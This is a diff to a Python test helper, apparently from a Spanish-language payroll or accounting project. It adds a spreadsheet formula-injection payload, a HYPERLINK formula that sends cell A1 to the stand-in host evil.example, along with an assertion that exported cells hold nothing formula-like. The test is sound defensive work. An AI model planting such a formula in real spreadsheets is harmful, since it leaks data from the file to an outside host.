@@ -54,3 +54,15 @@ def decide(nit: str, cycle_id: str, decision: str = "approved", by: str = "ana",
     request, reason = asked if asked else (f"books__{cycle_id}__{nit}__again", "otra vez")
     approvals.open_request(request, nit, cycle_id, reason, "test")
     return approvals.record(request, approvals.Answer(decision, by, comment), "test-run")
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'  # text an invoice or a person may carry
+
+
+def assert_no_formula(cells: Any) -> None:
+    """No cell read back from a written file begins with a character a spreadsheet runs as a formula
+    (plain numbers such as -1234,56 aside: amounts stay numbers)."""
+    from quincena.core.cells import is_formula_like
+
+    bad = [c for c in cells if isinstance(c, str) and is_formula_like(c)]
+    assert not bad, bad
